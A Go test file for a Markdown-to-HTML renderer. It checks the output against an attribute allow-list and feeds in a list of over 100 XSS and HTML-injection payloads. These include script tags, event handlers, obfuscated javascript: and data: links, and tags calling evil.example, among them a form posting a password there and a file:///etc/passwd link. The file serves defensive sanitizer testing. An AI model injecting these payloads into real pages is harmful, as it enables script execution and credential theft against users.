package markdown

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// testPrefix is the IDPrefix of fragments that tests look at: every id must start with it.
const testPrefix = "p-"

// allowedAttributes are all attributes that may appear in a fragment, by element, and what they may hold.
var allowedAttributes = map[string]map[string]*regexp.Regexp{
	"*":       {"id": regexp.MustCompile(`^p-[\p{L}\p{N}\p{M}:-]+$`), "title": nil},
	"a":       {"href": nil, "rel": regexp.MustCompile(`^noopener noreferrer$`), "class": regexp.MustCompile(`^footnote-back$`), "role": regexp.MustCompile(`^doc-(noteref|backlink)$`), "aria-label": regexp.MustCompile(`^(Note|Back to the text at note) \d+(, place \d+)?$`)},
	"img":     {"src": nil, "alt": nil, "loading": regexp.MustCompile(`^lazy$`), "decoding": regexp.MustCompile(`^async$`), "width": regexp.MustCompile(`^\d+$`), "height": regexp.MustCompile(`^\d+$`)},
	"div":     {"class": regexp.MustCompile(`^(table-scroll|footnotes|callout callout-(note|info|tip|important|warning|danger))$`), "role": regexp.MustCompile(`^(region|note)$`), "tabindex": regexp.MustCompile(`^0$`), "aria-label": regexp.MustCompile(`^Table`)},
	"p":       {"class": regexp.MustCompile(`^callout-title$`)},
	"pre":     {"class": regexp.MustCompile(`^chroma$`), "tabindex": regexp.MustCompile(`^0$`)},
	"code":    {"class": regexp.MustCompile(`^language-[a-z0-9+_#.-]+$`)},
	"span":    {"class": regexp.MustCompile(`^(task task-(done|open)|[a-z]{1,2})$`), "role": regexp.MustCompile(`^img$`), "aria-label": regexp.MustCompile(`^(Done|Not done)$`)},
	"ul":      {"class": regexp.MustCompile(`^tasks$`)},
	"ol":      {"class": regexp.MustCompile(`^tasks$`), "start": regexp.MustCompile(`^\d+$`)},
	"sup":     {"class": regexp.MustCompile(`^footnote-ref$`)},
	"th":      {"scope": regexp.MustCompile(`^(col|row)$`), "class": regexp.MustCompile(`^align-(left|right|center)$`), "colspan": regexp.MustCompile(`^\d+$`), "rowspan": regexp.MustCompile(`^\d+$`)},
	"td":      {"class": regexp.MustCompile(`^align-(left|right|center)$`), "colspan": regexp.MustCompile(`^\d+$`), "rowspan": regexp.MustCompile(`^\d+$`)},
	"col":     {"span": regexp.MustCompile(`^\d+$`)},
	"details": {"open": regexp.MustCompile(`^$|^open$`)},
}

var allowedElements = strings.Fields(`a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2 h3 h4
	h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var wbr`)

// unsafe returns what is wrong with a fragment's HTML, empty when nothing is: an element, attribute or address that may not be there, an
// id without the prefix or used twice, or tags that do not match.
func unsafe(fragment string) string {
	allowed := map[string]bool{}
	for _, name := range allowedElements {
		allowed[name] = true
	}
	void := map[string]bool{"br": true, "img": true, "hr": true, "col": true, "wbr": true}
	ids := map[string]bool{}
	var open []string
	tokens := html.NewTokenizer(strings.NewReader(fragment))
	for {
		kind := tokens.Next()
		if kind == html.ErrorToken {
			break
		}
		token := tokens.Token()
		switch kind {
		case html.CommentToken, html.DoctypeToken:
			return "a comment or declaration: " + token.String()
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != token.Data {
				return fmt.Sprintf("</%s> where %v is open", token.Data, open)
			}
			open = open[:len(open)-1]
		case html.StartTagToken, html.SelfClosingTagToken:
			if !allowed[token.Data] {
				return "the element " + token.String()
			}
			if !void[token.Data] {
				open = append(open, token.Data)
			}
			for _, a := range token.Attr {
				pattern, ok := allowedAttributes[token.Data][a.Key]
				if !ok {
					pattern, ok = allowedAttributes["*"][a.Key]
				}
				if !ok || pattern != nil && !pattern.MatchString(a.Val) {
					return fmt.Sprintf("the attribute %s=%q of <%s>", a.Key, a.Val, token.Data)
				}
				if a.Key == "id" {
					if ids[a.Val] {
						return "the id " + a.Val + " twice"
					}
					ids[a.Val] = true
				}
				if a.Key == "href" || a.Key == "src" {
					if bad := badAddress(a.Val); bad != "" {
						return bad
					}
				}
			}
		}
	}
	if len(open) > 0 {
		return fmt.Sprintf("%v left open", open)
	}
	return ""
}

// badAddress says what is wrong with an address, decoded as a browser decodes it; it is written apart from the code it checks.
func badAddress(address string) string {
	seen := strings.Map(func(r rune) rune {
		if r <= 0x20 {
			return -1
		}
		return r
	}, strings.ToLower(address))
	m := regexp.MustCompile(`^([a-z][a-z0-9+.-]*):`).FindStringSubmatch(seen)
	if m != nil && m[1] != "http" && m[1] != "https" && m[1] != "mailto" {
		return "the address " + address
	}
	return ""
}

// structure returns the tags of a fragment in order.
func structure(fragment string) string {
	var b strings.Builder
	tokens := html.NewTokenizer(strings.NewReader(fragment))
	for tokens.Next() != html.ErrorToken {
		switch token := tokens.Token(); token.Type {
		case html.StartTagToken, html.SelfClosingTagToken:
			b.WriteString("<" + token.Data + ">")
		case html.EndTagToken:
			b.WriteString("</" + token.Data + ">")
		}
	}
	return b.String()
}

// asParsed returns the tags of a fragment in the order in which a browser would have them.
func asParsed(fragment string) string {
	nodes, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return err.Error()
	}
	var b strings.Builder
	for _, n := range nodes {
		if err := html.Render(&b, n); err != nil {
			return err.Error()
		}
	}
	return structure(b.String())
}

// check reports what is wrong with a fragment of a document.
func check(t *testing.T, src string, f Fragment) {
	t.Helper()
	if bad := unsafe(f.HTML); bad != "" {
		t.Errorf("%q has %s:\n%s", src, bad, f.HTML)
	}
	if got, want := structure(f.HTML), asParsed(f.HTML); got != want {
		t.Errorf("%q: a browser reads\n%s\nwhere\n%s\nis written", src, want, got)
	}
	last := 0
	for _, s := range f.Slots {
		if s.Start < last || s.End < s.Start || s.End > len(f.HTML) {
			t.Fatalf("%q: the slot %+v is out of place in %d bytes after %d", src, s, len(f.HTML), last)
		}
		last = s.End
		var want string
		switch s.Kind {
		case LinkSlot:
			want = string(appendAddress(nil, s.Dest))
			if tag := f.HTML[s.Tag.Start:s.Tag.End]; !strings.HasPrefix(tag, "<a ") || !strings.HasSuffix(tag, ">") || f.HTML[s.CloseTag.Start:s.CloseTag.End] != "</a>" {
				t.Errorf("%q: the tags of %+v are %q and %q", src, s, tag, f.HTML[s.CloseTag.Start:s.CloseTag.End])
			}
		case ImageSlot:
			want = string(appendAddress(nil, s.Dest))
			if tag := f.HTML[s.Tag.Start:s.Tag.End]; !strings.HasPrefix(tag, "<img ") || !strings.HasSuffix(tag, ">") {
				t.Errorf("%q: the tag of %+v is %q", src, s, tag)
			}
		case TermSlot:
			if want = string(appendText(nil, s.Dest)); strings.EqualFold(strings.ReplaceAll(f.HTML[s.Start:s.End], "\n", " "), want) {
				want = f.HTML[s.Start:s.End]
			}
		}
		if got := f.HTML[s.Start:s.End]; got != want {
			t.Errorf("%q: the slot %+v holds %q, want %q", src, s, got, want)
		}
	}
	keep := func(s Slot) Replacement { return Replacement{Address: s.Dest} }
	if got := f.Resolve(keep); got != f.HTML {
		t.Errorf("%q: with every address kept,\n%s\nbecomes\n%s", src, f.HTML, got)
	}
	dropped := f.Resolve(func(Slot) Replacement { return Replacement{} })
	if bad := unsafe(dropped); bad != "" {
		t.Errorf("%q without its addresses has %s:\n%s", src, bad, dropped)
	}
	if strings.Contains(dropped, `<a href="`) && !strings.Contains(dropped, "doc-") || strings.Contains(dropped, "<img") {
		t.Errorf("%q keeps an address:\n%s", src, dropped)
	}
}

var attacks = []string{
	// Scripts and what starts them.
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<script/src=data:,alert(1)>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"<script\n>alert(1)</script\n>",
	`<script>alert(1)`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)//`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
	// Event handlers.
	`<img src=x onerror=alert(1)>`,
	`<img src="x" ONERROR = 'alert(1)'>`,
	"<img src=x\nonerror\n=\nalert(1)>",
	`<img/src="x"/onerror=alert(1)>`,
	`<b onmouseover=alert(1)>x</b>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<a href="x" onclick="alert(1)">x</a>`,
	`<div onpointerenter=alert(1) style="position:fixed;inset:0">x</div>`,
	`<body onload=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)></audio>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	// Addresses.
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](javascript&#58;alert(1))`,
	`[x](&#106;&#97;vascript:alert(1))`,
	`[x](java&#10;script:alert(1))`,
	`[x](java&Tab;script:alert(1))`,
	`[x](&#1;javascript:alert(1))`,
	`[x](<  javascript:alert(1)>)`,
	`[x](\javascript:alert(1))`,
	`[x](java\script:alert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html,<script>alert(1)</script>)`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`![x](data:image/svg+xml,<svg onload=alert(1)>)`,
	`![x](javascript:alert(1))`,
	`<javascript:alert(1)>`,
	`<data:text/html,x>`,
	"[x]\n\n[x]: javascript:alert(1)",
	"[x][y]\n\n[y]: <java\tscript:alert(1)>",
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
	`<blockquote cite="javascript:alert(1)">x</blockquote>`,
	`[x](blob:https://x/y) [y](filesystem:http://x) [z](about:blank)`,
	// Ways out of an attribute.
	`[x](" onmouseover="alert(1))`,
	`[x](<" onmouseover="alert(1)>)`,
	`[x](y "&quot; onmouseover=&quot;alert(1)")`,
	`[x](y '" onmouseover="alert(1)')`,
	`![" onerror="alert(1)](x)`,
	`![x](x" onerror="alert(1))`,
	"[x]\n\n[x]: y '\"><script>alert(1)</script>'",
	"```\" onmouseover=\"alert(1)\nx\n```",
	"```<script>\nx\n```",
	"``` &quot;&gt;&lt;script&gt;\nx\n```",
	`# x {#" onmouseover="alert(1)}`,
	`# x {onclick=alert(1)}`,
	`# "><script>alert(1)</script>`,
	"!!! note \"x<script>alert(1)</script>\"\n    y",
	"::: {.note title='\"><img src=x onerror=alert(1)>'}\nx\n:::",
	"> [!NOTE] <img src=x onerror=alert(1)>\n> x",
	"[^\"><script>]: x\n\n[^\"><script>]",
	"a | b\n--|--\n<script>alert(1)</script> | \"><svg onload=alert(1)>",
	// Elements that change the page around them.
	`<style>*{display:none}</style>`,
	`<base href="//evil.example/">`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<form action=//evil.example><input name=password><button>go</button></form>`,
	`<iframe src=//evil.example></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data=//evil.example></object><embed src=//evil.example>`,
	`<frameset><frame src=javascript:alert(1)></frameset>`,
	`<template><script>alert(1)</script></template>`,
	`<textarea>`, `<title>`, `<xmp>`, `<plaintext>`, `<noscript>`, `<noembed>`, `<select>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<p title="</p><img src=x onerror=alert(1)>">x</p>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`</div></div></section></main></body></html>`,
	"- a </li></ul></div>\n- b",
	"> </blockquote></div>\n\nx",
	"a | b\n--|--\n</td></tr></table></div> | </div>",
	`<div><p>x`,
	"<div>\n\nx\n\n</div></div></div>",
	`<table><tr><td>x`,
	"<details>\n\n# x",
	`<b><i>x</b></i> y`,
	"<p>\n\n<div>\n\n<p>",
	"[a <a href=x>b](y) c</a>",
	// Names that scripts of the page could trip over, and markup that looks like the theme's.
	`<a id=location name=cookie href=x>x</a>`,
	`<img name=getElementById id=currentScript src=x>`,
	`<form id=documentElement><input id=attributes></form>`,
	"# location\n\n# location\n\n# cookie",
	"# x {#location}",
	`<div class="banner" role="alert" data-action="close" slot="x" is="y">x</div>`,
	`<span style="background:url(//evil.example)">x</span>`,
	`<div contenteditable draggable=true tabindex=99 accesskey=x>x</div>`,
	`<a href=x target=_top ping=//evil.example download>x</a>`,
	`<td background="javascript:alert(1)">x</td>`,
	// Comments, declarations and templates.
	`<!-- <script>alert(1)</script> --> x <!--> y <!---> z --!>`,
	"<!-- x\n\n<script>alert(1)</script>",
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo "<script>alert(1)</script>" ?>`,
	`<!DOCTYPE html [<!ENTITY x "y">]>`,
	`{{ template "x" }} {{"{{"}} {% raw %} ${alert(1)} <% alert(1) %> {{< script >}}`,
	"{{< x\n\" onclick=\"alert(1) >}} y",
	"x\x00<scr\x00ipt>alert(1)</script>",
	"<img src=x on\x00error=alert(1)>",
	"\xff<\xfescript>alert(1)</script>",
	"<script\u2028>alert(1)</script>",
	`&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;`,
	"`<script>alert(1)</script>`",
	"    <script>alert(1)</script>",
	`\<script>alert(1)\</script>`,
}

// TestAttacks puts every attack in every place a text has.
func TestAttacks(t *testing.T) {
	places := []string{"%s", "x %s y", "# %s", "- %s\n- x", "> %s", "a | b\n--|--\n%s | y", "**%s**", "[%s](z)", "x[^1]\n\n[^1]: %s",
		"<div>%s</div>", "<details>\n<summary>%s</summary>\n\nx\n\n</details>", "!!! note\n    %s", "x <b>%s", "![%s](z)"}
	for _, attack := range attacks {
		for _, place := range places {
			src := strings.ReplaceAll(place, "%s", attack)
			d := Parse([]byte(src), Options{Terms: []string{"alert", "x", "script"}})
			check(t, src, d.Render(d.Blocks, RenderOptions{IDPrefix: testPrefix, Title: "The <title>"}))
			for _, b := range d.Blocks {
				check(t, src, d.RenderSpans(b.Spans, RenderOptions{IDPrefix: testPrefix}))
			}
		}
	}
	if len(attacks) < 100 {
		t.Errorf("there are %d attacks, want 100", len(attacks))
	}
}

// TestUnsafe makes sure that the judge of the other tests is one.
func TestUnsafe(t *testing.T) {
	for _, bad := range []string{`<script>`, `<p onclick="x"></p>`, `<p style="x"></p>`, `<p>`, `</p>`, `<b><i></b></i>`, `<a href="javascript:x"></a>`,
		"<a href=\"java\tscript:x\"></a>", `<p id="x"></p>`, `<p id="p-x"></p><p id="p-x"></p>`, `<!-- x -->`, `<div class="banner"></div>`} {
		if unsafe(bad) == "" {
			t.Errorf("nothing is found wrong with %s", bad)
		}
	}
}
